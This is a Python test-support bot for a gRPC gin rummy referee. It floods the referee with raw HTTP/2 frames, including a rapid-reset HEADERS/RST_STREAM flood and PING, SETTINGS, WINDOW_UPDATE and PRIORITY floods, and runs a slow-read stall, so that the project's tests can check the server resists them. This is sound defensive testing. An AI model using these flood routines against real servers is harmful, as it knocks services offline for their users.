"""A bot that abuses the wire below gRPC (tests/referee/test_wire_attacks.py).

Usage: ``python tests/support/h2_attacker.py MODE`` with the referee's launch environment
(``GINREF_ADDRESS`` a Unix socket or host:port).

Flood modes play a legal match over an ordinary gRPC stream and, from its first MatchStart
(with ``ARG`` ``turn``: at its first decision, which it then never answers), flood raw HTTP/2
on other connections of their own to the same address, connecting again whenever a connection
is closed, until they are refused (or the process ends):

  reset     HEADERS then RST_STREAM, new stream after new stream (the "rapid reset")
  window    WINDOW_UPDATE frames on the connection
  ping      PING frames
  settings  SETTINGS frames
  priority  PRIORITY frames

``stall`` plays no match: it says Hello over raw HTTP/2 with a receive window of 64 bytes and
never opens it further, so the referee cannot write it anything but its Welcome; it never
reads again.

Every line it prints starts with ``H2ATTACK``; the tests judge from the referee's records.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
from hpack import Encoder
from hyperframe.frame import (
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from referee.wire import PROTOCOL_VERSION
from sample_bots.client import pb, run_bot

PATH = "/ginrummy.v1.Referee/Play"
BATCH = 1 << 20  # bytes of frames written at once


def say(text: str) -> None:
    print(f"H2ATTACK {text}", flush=True)


def connect(address: str) -> socket.socket:
    if address.startswith("unix:"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(address[5:])
    else:
        host, port = address.rsplit(":", 1)
        sock = socket.create_connection((host, int(port)))
    return sock


def handshake(sock: socket.socket, window: int | None = None) -> h2.connection.H2Connection:
    """The client preface and settings, the server's settings read and acknowledged."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    if window is not None:
        conn.local_settings.initial_window_size = window
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.settimeout(10)
    while True:
        data = sock.recv(65536)
        if not data:
            raise ConnectionError("closed during the handshake")
        events = conn.receive_data(data)
        sock.sendall(conn.data_to_send())
        if any(isinstance(e, h2.events.RemoteSettingsChanged) for e in events):
            return conn


HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", PATH),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def headers_block() -> bytes:
    """A request's headers, never indexed, so that the same block is valid on every stream."""
    return Encoder().encode([(k, v, True) for k, v in HEADERS])


def batch(mode: str, stream: int, block: bytes) -> tuple[bytes, int]:
    """About :data:`BATCH` bytes of ``mode``'s frames, and the next stream id."""
    out = bytearray()
    if mode == "reset":
        while len(out) < BATCH:
            headers = HeadersFrame(stream, data=block)
            headers.flags.add("END_HEADERS")
            out += headers.serialize() + RstStreamFrame(stream, error_code=8).serialize()
            stream += 2
        return bytes(out), stream
    frame = {
        "window": WindowUpdateFrame(0, window_increment=1),
        "ping": PingFrame(0, opaque_data=b"ginref!!"),
        "settings": SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}),
        "priority": PriorityFrame(1, depends_on=0, stream_weight=16),
    }[mode].serialize()
    return frame * (BATCH // len(frame)), stream


def drain(sock: socket.socket) -> None:
    try:
        while sock.recv(1 << 16):
            pass
    except OSError:
        pass


def flood(mode: str, address: str) -> None:
    """Flood until the address refuses connections."""
    block = headers_block()
    connections = frames = 0
    while True:
        try:
            sock = connect(address)
            handshake(sock)
        except OSError as exc:
            say(f"{mode}: refused after {connections} connections, {frames} bytes: {exc}")
            return
        connections += 1
        stream = 1
        sock.setblocking(True)
        sock.settimeout(None)
        # Read whatever the server answers (a PING's or SETTINGS' acknowledgement), so that
        # it never stops reading for want of its answers being read.
        threading.Thread(target=drain, args=(sock,), daemon=True).start()
        try:
            while True:
                data, stream = batch(mode, stream, block)
                sock.sendall(data)
                frames += len(data)
                if stream > 2**31 - 2**20:
                    break  # stream ids run out: a new connection
        except OSError:
            pass
        finally:
            sock.close()


def stall(address: str, token: str) -> None:
    """Hello with a receive window of 64 bytes, then never read or open it again."""
    sock = connect(address)
    conn = handshake(sock, window=64)
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, HEADERS)
    hello = pb.BotMessage(
        hello=pb.Hello(token=token, bot_name="staller", protocol_version=PROTOCOL_VERSION)
    ).SerializeToString()
    conn.send_data(stream, b"\0" + struct.pack(">I", len(hello)) + hello)
    sock.sendall(conn.data_to_send())
    say("stall: said Hello; reading no more")
    while True:
        time.sleep(3600)


def main(mode: str, when: str) -> int:
    address = os.environ["GINREF_ADDRESS"]
    if mode == "stall":
        stall(address, os.environ["GINREF_TOKEN"])
    rng = random.Random(5)
    started = threading.Event()

    def on_message(message: pb.RefereeMessage) -> None:
        kind = message.WhichOneof("kind")
        if when != "turn" and kind == "match_start" and not started.is_set():
            started.set()
            threading.Thread(target=flood, args=(mode, address), daemon=True).start()

    def decide(request: pb.DecisionRequest) -> pb.Action:
        if when == "turn":
            flood(mode, address)  # until the relay gives the seat up
            time.sleep(3600)
        choice: pb.Action = rng.choice(request.legal_actions)
        return choice

    code = run_bot(decide, f"h2-{mode}", "1.0", on_message=on_message, connect_timeout=60)
    say(f"{mode}: done, exit {code}")
    return code


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else "start"))
